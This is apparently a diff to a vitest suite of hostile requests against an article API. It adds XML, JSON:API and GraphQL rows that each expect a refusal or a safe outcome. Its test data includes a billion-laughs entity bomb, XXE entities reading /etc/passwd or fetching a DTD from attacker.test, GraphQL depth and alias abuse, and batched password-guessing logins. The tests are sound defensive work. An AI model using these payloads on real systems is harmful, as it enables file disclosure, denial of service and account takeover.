@@ -3,7 +3,9 @@ import { decodeProtectedHeader, SignJWT } from "jose";
 import { beforeAll, describe, expect, it } from "vitest";
 import { LIMITS } from "../src/domain/inputs";
 import { call, createArticle, type Reply, registerUser, type TestUser, unique } from "./support/api";
+import { MEDIA_TYPE } from "./support/jsonapi";
 import { expectUnchanged, snapshot } from "./support/snapshot";
+import { CONTENT_TYPES, errorsOf, type Style, XML, xmlBody } from "./support/styles";
 
 // A battery of malformed and hostile requests, written as a table so that
 // other API styles (XML, JSON:API, GraphQL) can add rows with their own
@@ -19,7 +21,11 @@ import { expectUnchanged, snapshot } from "./support/snapshot";
 // http.test.ts and users.test.ts cover the basic cases of each kind; this file
 // runs the wider, hostile variants through every route that takes them.
 
-type Style = "rest";
+// Rows of the other styles ("xml", "jsonapi", "graphql") are checked the same
+// way, with the error shape of their style (test/support/styles.ts errorsOf):
+// `error.field` names the REST/XML field, the JSON:API error `code` or the
+// GraphQL `extensions.code`, and `error.message` the message or detail. A
+// GraphQL row may expect an error in a 200 (the operation ran and refused).
 
 /** How the request authenticates; see `authorization()` for what each sends. */
 type TokenKind =
@@ -75,6 +81,25 @@ type HostileCase = {
 };
 
 const rest = (c: Omit<HostileCase, "style">): HostileCase => ({ style: "rest", ...c });
+/** REST in XML: XML bodies and answers. */
+const xml = (c: Omit<HostileCase, "style">): HostileCase => ({
+  style: "xml",
+  ...c,
+  headers: { Accept: XML, ...(c.body === undefined ? {} : { "Content-Type": XML }), ...c.headers },
+});
+const jsonapiRow = (c: Omit<HostileCase, "style">): HostileCase => ({
+  style: "jsonapi",
+  ...c,
+  headers: { Accept: MEDIA_TYPE, ...(c.body === undefined ? {} : { "Content-Type": MEDIA_TYPE }), ...c.headers },
+});
+/** A GraphQL request: POSTed as JSON unless the row says otherwise. */
+const graphqlRow = (c: Omit<HostileCase, "style" | "method" | "path"> & { method?: string; path?: string }): HostileCase => ({
+  style: "graphql",
+  method: "POST",
+  path: "/graphql",
+  ...c,
+});
+const gqlBody = (query: string, variables?: unknown, operationName?: string) => json({ query, variables, operationName });
 
 // --- building bodies --------------------------------------------------------
 
@@ -134,6 +159,11 @@ const NO_AUTH = "authentication is required";
 const BAD_TOKEN = "token is invalid or expired";
 const BAD_SCHEME = "Authorization must be 'Token <jwt>' or 'Bearer <jwt>'";
 const NOT_FOUND_ARTICLE = "article not found";
+const XML_DOCTYPE = "XML bodies may not contain a DOCTYPE or entity declarations";
+const NOT_XML = "request body is not valid XML";
+/** A valid new-article document for JSON:API. */
+const jsonapiArticle = () =>
+  json({ data: { type: "articles", attributes: { title: unique("Hostile JSON:API "), description: "d", body: "b" } } });
 
 // Text in every script and the characters that trip up naive handling.
 const EMOJI = "👩‍💻🚀🏳️‍🌈";
@@ -1602,6 +1632,522 @@ const CASES: HostileCase[] = [
       },
     },
   }),
+  // --- XML (REST in XML) ------------------------------------------------------
+  xml({
+    name: "a DOCTYPE with nested entities (billion laughs)",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><article><title>&lol3;</title><description>d</description><body>b</body></article>`,
+    status: 400,
+    error: { field: "body", message: XML_DOCTYPE },
+  }),
+  xml({
+    name: "an external entity (XXE) naming a local file",
+    method: "PUT",
+    path: "/api/user",
+    token: "owner",
+    body: `<?xml version="1.0"?><!DOCTYPE user [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><user><bio>&xxe;</bio></user>`,
+    status: 400,
+    error: { field: "body", message: XML_DOCTYPE },
+  }),
+  xml({
+    name: "a parameter entity fetched from a URL",
+    method: "POST",
+    path: "/api/articles/@@slug@@/comments",
+    token: "owner",
+    body: `<?xml version="1.0"?><!DOCTYPE comment [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd">%remote;]><comment><body>x</body></comment>`,
+    status: 400,
+    error: { field: "body", message: XML_DOCTYPE },
+  }),
+  xml({
+    name: "a DOCTYPE on an anonymous write (authentication comes first)",
+    method: "PUT",
+    path: "/api/articles/@@slug@@",
+    token: "none",
+    body: `<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]><article><body>&x;</body></article>`,
+    status: 401,
+    error: { field: "body", message: NO_AUTH },
+  }),
+  xml({
+    name: "an unknown entity reference (kept as text, never expanded)",
+    method: "POST",
+    path: "/api/articles/@@slug@@/comments",
+    token: "owner",
+    body: "<comment><body>&undefined;</body></comment>",
+    status: 200,
+    stored: {
+      proves: "stored as the literal text",
+      check: async (reply) => {
+        const { comment: stored } = xmlBody(reply.text) as { comment: { id: number; body: string } };
+        expect(stored.body).toBe("&undefined;");
+        expect((await one("SELECT body FROM comments WHERE id = ?", stored.id)).body).toBe("&undefined;");
+      },
+    },
+  }),
+  xml({
+    name: "an unclosed element",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: "<article><title>x</title><description>d<body>b</body></article>",
+    status: 400,
+    error: { field: "body", message: NOT_XML },
+  }),
+  xml({
+    name: "two root elements",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: "<article><title>x</title></article><article><title>y</title></article>",
+    status: 400,
+    error: { field: "body", message: NOT_XML },
+  }),
+  xml({
+    name: "text that is not XML at all",
+    method: "PUT",
+    path: "/api/user",
+    token: "owner",
+    body: '{"user":{"bio":"json sent as xml"}}',
+    status: 400,
+    error: { field: "body", message: NOT_XML },
+  }),
+  xml({
+    name: "the wrong root element (a user where an article belongs)",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: "<user><title>x</title><description>d</description><body>b</body></user>",
+    status: 422,
+    error: { field: "article", message: "is required" },
+  }),
+  xml({
+    name: "the wrong root element (an article where a user belongs)",
+    method: "PUT",
+    path: "/api/user",
+    token: "owner",
+    body: "<article><bio>x</bio></article>",
+    status: 422,
+    error: { field: "user", message: "is required" },
+  }),
+  xml({
+    name: "a body over 1 MiB",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: () => `<article><title>huge</title><description>d</description><body>${"x".repeat(MiB + 10)}</body></article>`,
+    status: 413,
+    error: { field: "body", message: TOO_LARGE },
+  }),
+  xml({
+    name: "a streamed body over 1 MiB",
+    method: "POST",
+    path: "/api/articles/@@slug@@/comments",
+    token: "owner",
+    body: streamOf("<comment><body>", 2 * MiB, "</body></comment>"),
+    status: 413,
+    error: { field: "body", message: TOO_LARGE },
+  }),
+  xml({
+    name: "100,000 nested elements",
+    method: "POST",
+    path: "/api/articles",
+    token: "owner",
+    body: () => `<article>${"<a>".repeat(DEEP)}${"</a>".repeat(DEEP)}</article>`,
+    status: 400,
+    error: { field: "body" },
+  }),
+  xml({
+    name: "bytes that are not UTF-8",
+    method: "POST",
+    path: "/api/articles/@@slug@@/comments",
+    token: "owner",
+    body: bytes("<comment><body>caf", [0xe9, 0xff], "</body></comment>"),
+    status: 400,
+    error: { field: "body", message: NOT_UTF8 },
+  }),
+  xml({
+    name: "a refused write by another user, answered in XML",
+    method: "DELETE",
+    path: "/api/articles/@@slug@@",
+    token: "other",
+    status: 403,
+    error: { field: "body", message: "only the author can delete this article" },
+  }),
+
+  // --- JSON:API -----------------------------------------------------------------
+  jsonapiRow({
+    name: "a charset parameter on the Content-Type",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    headers: { "Content-Type": `${MEDIA_TYPE}; charset=utf-8` },
+    body: () => jsonapiArticle(),
+    status: 415,
+    error: { field: "unsupported_media_type", message: /no parameter but profile/ },
+  }),
+  jsonapiRow({
+    name: "an ext parameter on the Content-Type (no extension is supported)",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    headers: { "Content-Type": `${MEDIA_TYPE}; ext="https://jsonapi.org/ext/atomic"` },
+    body: () => jsonapiArticle(),
+    status: 415,
+    error: { field: "unsupported_media_type" },
+  }),
+  jsonapiRow({
+    name: "plain application/json as the Content-Type",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    headers: { "Content-Type": "application/json" },
+    body: () => jsonapiArticle(),
+    status: 415,
+    error: { field: "unsupported_media_type" },
+  }),
+  jsonapiRow({
+    name: "an Accept whose only JSON:API type has a parameter",
+    method: "GET",
+    path: "/jsonapi/articles",
+    token: "none",
+    headers: { Accept: `${MEDIA_TYPE}; charset=utf-8` },
+    status: 406,
+    error: { field: "not_acceptable" },
+  }),
+  jsonapiRow({
+    name: "a truncated document",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    body: '{"data":{"type":"articles","attributes":{',
+    status: 400,
+    error: { field: "bad_request", message: NOT_JSON },
+  }),
+  jsonapiRow({
+    name: "a document without data",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    body: json({ meta: { title: "x" } }),
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "an array of resources where one belongs",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    body: () => `{"data":[${JSON.stringify(JSON.parse(jsonapiArticle()).data)}]}`,
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "a type that does not match the endpoint",
+    method: "PATCH",
+    path: "/jsonapi/articles/@@articleAId@@",
+    token: "owner",
+    body: json({ data: { type: "users", id: "@@articleAId@@", attributes: { body: "x" } } }),
+    status: 409,
+    error: { field: "conflict", message: /type must be "articles"/ },
+  }),
+  jsonapiRow({
+    name: "an id that does not match the URL",
+    method: "PATCH",
+    path: "/jsonapi/articles/@@articleAId@@",
+    token: "owner",
+    body: json({ data: { type: "articles", id: "@@articleBId@@", attributes: { body: "x" } } }),
+    status: 409,
+    error: { field: "conflict" },
+  }),
+  jsonapiRow({
+    name: "an update without an id",
+    method: "PATCH",
+    path: "/jsonapi/articles/@@articleAId@@",
+    token: "owner",
+    body: json({ data: { type: "articles", attributes: { body: "x" } } }),
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "a client-generated id on a new article",
+    method: "POST",
+    path: "/jsonapi/articles",
+    token: "owner",
+    body: () => json({ data: { ...JSON.parse(jsonapiArticle()).data, id: "1" } }),
+    status: 403,
+    error: { field: "forbidden" },
+  }),
+  jsonapiRow({
+    name: "a client-generated id on registration",
+    method: "POST",
+    path: "/jsonapi/users",
+    token: "none",
+    body: () => {
+      const username = unique("ja");
+      return json({
+        data: { type: "users", id: "1", attributes: { username, email: `${username}@example.com`, password: "password123" } },
+      });
+    },
+    status: 403,
+    error: { field: "forbidden" },
+  }),
+  jsonapiRow({
+    name: "an include of an unknown relationship path",
+    method: "GET",
+    path: "/jsonapi/articles?include=author.password",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request", message: /not a relationship path/ },
+    reply: (reply) => expect(reply.body.errors[0].source).toEqual({ parameter: "include" }),
+  }),
+  jsonapiRow({
+    name: "a sparse fieldset naming a column",
+    method: "GET",
+    path: "/jsonapi/articles?fields[users]=password_hash",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "a page limit past the maximum",
+    method: "GET",
+    path: "/jsonapi/articles?page[limit]=1000",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request", message: "page[limit] must be at most 100" },
+  }),
+  jsonapiRow({
+    name: "a negative page offset",
+    method: "GET",
+    path: "/jsonapi/articles?page[offset]=-1",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "a page limit that is not a number",
+    method: "GET",
+    path: "/jsonapi/articles?page[limit]=1e2",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "a page parameter given twice",
+    method: "GET",
+    path: "/jsonapi/articles?page[limit]=5&page[limit]=6",
+    token: "none",
+    status: 400,
+    error: { field: "bad_request" },
+  }),
+  jsonapiRow({
+    name: "two members in one relationship change",
+    method: "POST",
+    path: "/jsonapi/users/me/relationships/favorites",
+    token: "owner",
+    body: json({
+      data: [
+        { type: "articles", id: "@@articleAId@@" },
+        { type: "articles", id: "@@articleBId@@" },
+      ],
+    }),
+    status: 403,
+    error: { field: "forbidden", message: "add or remove one member per request" },
+  }),
+  jsonapiRow({
+    name: "a broken document on an anonymous write (authentication comes first)",
+    method: "PATCH",
+    path: "/jsonapi/articles/@@articleAId@@",
+    token: "none",
+    body: '{"data":',
+    status: 401,
+    error: { field: "unauthenticated" },
+  }),
+  jsonapiRow({
+    name: "ids, counts, timestamps and the author in an article's attributes",
+    method: "PATCH",
+    path: "/jsonapi/articles/@@articleBId@@",
+    token: "owner",
+    body: (f) =>
+      json({
+        data: {
+          type: "articles",
+          id: f.vars.articleBId,
+          attributes: {
+            body: "jsonapi mass assigned body",
+            slug: "hijacked-slug",
+            id: 1,
+            authorId: f.other.id,
+            favoritesCount: 1000,
+            favorited: true,
+            createdAt: "2000-01-01T00:00:00.000Z",
+            updatedAt: "2000-01-01T00:00:00.000Z",
+          },
+          meta: { favorited: true },
+        },
+      }),
+    status: 200,
+    stored: {
+      proves: "only the body changes",
+      check: async (reply, f) => {
+        const row = await articleRow(f.slugB);
+        expect(row).toMatchObject({
+          id: Number(f.vars.articleBId),
+          body: "jsonapi mass assigned body",
+          author_id: f.owner.id,
+          created_at: Number(f.vars.articleBCreatedAt),
+        });
+        // The count is the real one (other rows may favorite B), never the 1000 sent.
+        const n = (await all<{ n: number }>("SELECT COUNT(*) AS n FROM favorites WHERE article_id = ?", row.id))[0]?.n;
+        expect(row.favorites_count).toBe(n);
+        expect(reply.body.data.attributes).toMatchObject({ slug: f.slugB, favoritesCount: n });
+        expect(reply.body.data.relationships.author.data).toEqual({ type: "users", id: String(f.owner.id) });
+      },
+    },
+  }),
+
+  // --- GraphQL ------------------------------------------------------------------
+  graphqlRow({
+    name: "fields nested past the depth limit",
+    token: "none",
+    body: gqlBody(
+      "{ articles { edges { node { author { articles { edges { node { author { articles { edges { node { title } } } } } } } } } } } }",
+    ),
+    status: 400,
+    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /depth 12 exceeds the limit of 10/ },
+  }),
+  graphqlRow({
+    name: "more aliases than allowed",
+    token: "none",
+    body: gqlBody(`{ ${Array.from({ length: 40 }, (_, i) => `t${i}: tags`).join(" ")} }`),
+    status: 400,
+    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /Alias count 40 exceeds the limit of 15/ },
+  }),
+  graphqlRow({
+    name: "more tokens than allowed",
+    token: "none",
+    body: gqlBody(`{ ${"__typename ".repeat(5000)} }`),
+    status: 400,
+    error: { field: "GRAPHQL_PARSE_FAILED" },
+  }),
+  graphqlRow({
+    name: "a syntax error",
+    token: "owner",
+    body: gqlBody("mutation { deleteArticle(slug: "),
+    status: 400,
+    error: { field: "GRAPHQL_PARSE_FAILED" },
+  }),
+  graphqlRow({
+    name: "a mutation sent with GET",
+    method: "GET",
+    path: `/graphql?query=${encodeURIComponent('mutation { deleteArticle(slug: "')}@@slug@@${encodeURIComponent('") }')}`,
+    token: "owner",
+    status: 405,
+    error: { field: "METHOD_NOT_ALLOWED" },
+    reply: (reply) => expect(reply.headers.get("allow")).toBe("POST"),
+  }),
+  graphqlRow({
+    name: "a variable of the wrong type",
+    token: "owner",
+    body: gqlBody("mutation($input: UpdateUserInput!) { updateUser(input: $input) { bio } }", { input: { bio: ["x"] } }),
+    status: 400,
+    error: { field: "BAD_USER_INPUT" },
+  }),
+  graphqlRow({
+    name: "variables that are not an object",
+    token: "none",
+    body: json({ query: "{ tags }", variables: "[1,2]" }),
+    status: 400,
+    error: { field: "BAD_REQUEST" },
+  }),
+  graphqlRow({
+    name: "an unknown operation name",
+    token: "none",
+    body: gqlBody("query A { tags } query B { tags }", undefined, "C"),
+    status: 400,
+    error: { field: "BAD_USER_INPUT" },
+  }),
+  graphqlRow({
+    name: "read-only fields (counts, author) in a new article's input",
+    token: "owner",
+    body: gqlBody(
+      'mutation { createArticle(input: { title: "mass", description: "d", body: "b", favoritesCount: 1000, author: "x" }) { slug } }',
+    ),
+    status: 400,
+    error: { field: "GRAPHQL_VALIDATION_FAILED" },
+  }),
+  graphqlRow({
+    name: "a full introspection query within the limits",
+    token: "none",
+    body: gqlBody("{ __schema { queryType { name } types { name kind fields { name type { name kind ofType { name } } } } } }"),
+    status: 200,
+    reply: (reply) => {
+      expect(reply.body.errors).toBeUndefined();
+      expect(reply.body.data.__schema.types.map((t: { name: string }) => t.name)).toContain("Article");
+    },
+  }),
+  graphqlRow({
+    name: "introspection nested past graphql-js's introspection depth",
+    token: "none",
+    body: gqlBody("{ __schema { types { fields { type { fields { type { fields { type { fields { name } } } } } } } } } }"),
+    status: 400,
+    error: { field: "GRAPHQL_VALIDATION_FAILED" },
+  }),
+  graphqlRow({
+    name: "introspection repeated under many aliases",
+    token: "none",
+    body: gqlBody(`{ ${Array.from({ length: 20 }, (_, i) => `s${i}: __schema { types { name } }`).join(" ")} }`),
+    status: 400,
+    error: { field: "GRAPHQL_VALIDATION_FAILED", message: /Alias count/ },
+  }),
+  graphqlRow({
+    name: "a batch of aliased logins guessing the owner's password",
+    token: "none",
+    body: (f) =>
+      gqlBody(
+        `mutation { ${Array.from(
+          { length: 10 },
+          (_, i) => `l${i}: login(input: { email: "${f.owner.email}", password: "guess-${i}-password" }) { token }`,
+        ).join(" ")} }`,
+      ),
+    status: 200,
+    error: { field: "UNAUTHENTICATED", message: "email or password is invalid" },
+    reply: (reply) => {
+      expect(reply.body.errors).toHaveLength(10);
+      expect(Object.values(reply.body.data)).toEqual(Array(10).fill(null));
+      expect(reply.text).not.toMatch(/"token":"/);
+    },
+  }),
+  graphqlRow({
+    name: "an anonymous mutation",
+    token: "none",
+    body: gqlBody('mutation { createArticle(input: { title: "anon", description: "d", body: "b" }) { slug } }'),
+    status: 200,
+    error: { field: "UNAUTHENTICATED", message: NO_AUTH },
+  }),
+  graphqlRow({
+    name: "an expired token",
+    token: "expired",
+    body: gqlBody("{ tags }"),
+    status: 401,
+    error: { field: "UNAUTHENTICATED" },
+  }),
+  graphqlRow({
+    name: "a body that is not JSON",
+    token: "owner",
+    headers: { "Content-Type": "text/plain" },
+    body: 'mutation { deleteArticle(slug: "@@slug@@") }',
+    status: 415,
+    error: { field: "UNSUPPORTED_MEDIA_TYPE" },
+  }),
+  graphqlRow({
+    name: "a truncated JSON body",
+    token: "owner",
+    body: '{"query":"mutation { deleteArticle(slug: \\"@@slug@@\\") }"',
+    status: 400,
+    error: { field: "BAD_REQUEST" },
+  }),
 ];
 
 // --- running a case ---------------------------------------------------------
@@ -1636,6 +2182,13 @@ function sentStrings(body: BodyInit | undefined): string[] {
 
 /** SQL this file stores as data: lists may show it in any later answer. */
 const STORED_SQL = Object.values(SQL).flatMap((value) => [value, JSON.stringify(value).slice(1, -1)]);
+
+/**
+ * Wording a style's answers carry on purpose, which the internals patterns
+ * would mistake for a leak: graphql-js's parse errors begin "Syntax Error:",
+ * the form GraphQL clients expect (it names no class, file or query of ours).
+ */
+const PUBLIC_WORDING: Record<Style, string[]> = { rest: [], xml: [], jsonapi: [], graphql: ["Syntax Error:"] };
 
 function expectNoInternals(text: string, echoes: string[], label: string) {
   let rest = text;
@@ -1765,7 +2318,7 @@ async function fixtures(): Promise<Fixtures> {
 // --- the tests --------------------------------------------------------------
 
 // Large bodies (1 MiB, 100,000-element arrays) while other files run alongside: more than the default 5 s is allowed.
-describe("hostile REST requests", { timeout: 30_000 }, () => {
+describe("hostile requests, in every API style", { timeout: 30_000 }, () => {
   let f: Fixtures;
   beforeAll(async () => {
     f = await fixtures();
@@ -1773,9 +2326,13 @@ describe("hostile REST requests", { timeout: 30_000 }, () => {
 
   it("has at least 50 cases, each either refused with an error field or accepted with a defined outcome", () => {
     expect(CASES.length).toBeGreaterThanOrEqual(50);
+    for (const style of ["xml", "jsonapi", "graphql"] as const) {
+      expect(CASES.filter((c) => c.style === style).length, style).toBeGreaterThanOrEqual(10);
+    }
     for (const c of CASES) {
       if (c.status >= 400) expect(c.error, c.name).toBeDefined();
-      else expect(c.error, c.name).toBeUndefined();
+      // Only GraphQL refuses inside a 200 (the operation ran and answered with errors).
+      else if (c.style !== "graphql") expect(c.error, c.name).toBeUndefined();
     }
   });
 
@@ -1813,16 +2370,12 @@ describe("hostile REST requests", { timeout: 30_000 }, () => {
 
       expect(reply.status, `${label}: ${reply.text.slice(0, 300)}`).toBe(c.status);
       expect(reply.status, `${label}: throttled`).not.toBe(429);
-      expectNoInternals(reply.text, sentStrings(sent), label);
+      expectNoInternals(reply.text, [...sentStrings(sent), ...PUBLIC_WORDING[c.style]], label);
 
-      if (c.status >= 400) {
-        expect(reply.headers.get("content-type"), label).toBe("application/json; charset=utf-8");
-        expect(Object.keys(reply.body ?? {}), label).toEqual(["errors"]);
-        for (const [field, messages] of Object.entries(reply.body.errors as Record<string, unknown>)) {
-          expect(Array.isArray(messages) && messages.length > 0, `${label}: errors.${field}`).toBe(true);
-          for (const message of messages as unknown[]) expect(typeof message === "string" && message.length > 0).toBe(true);
-        }
-        const messages = reply.body.errors[c.error?.field ?? ""] as string[] | undefined;
+      if (c.status >= 400 || c.error) {
+        // The error shape of the row's style, read as field (or code) → messages.
+        const errors = errorsOf(c.style, reply, label);
+        const messages = errors[c.error?.field ?? ""] as string[] | undefined;
         expect(messages, `${label}: errors has '${c.error?.field}': ${reply.text.slice(0, 300)}`).toBeDefined();
         const expected = c.error?.message;
         if (typeof expected === "string") expect(messages, label).toContain(expected);
@@ -1833,7 +2386,7 @@ describe("hostile REST requests", { timeout: 30_000 }, () => {
           ).toBe(true);
         await expectUnchanged(before, label);
       } else {
-        if (c.status !== 204) expect(reply.headers.get("content-type"), label).toBe("application/json; charset=utf-8");
+        if (c.status !== 204) expect(reply.headers.get("content-type"), label).toBe(CONTENT_TYPES[c.style]);
         if (c.stored) await c.stored.check(reply, f);
         else await expectUnchanged(before, label);
       }
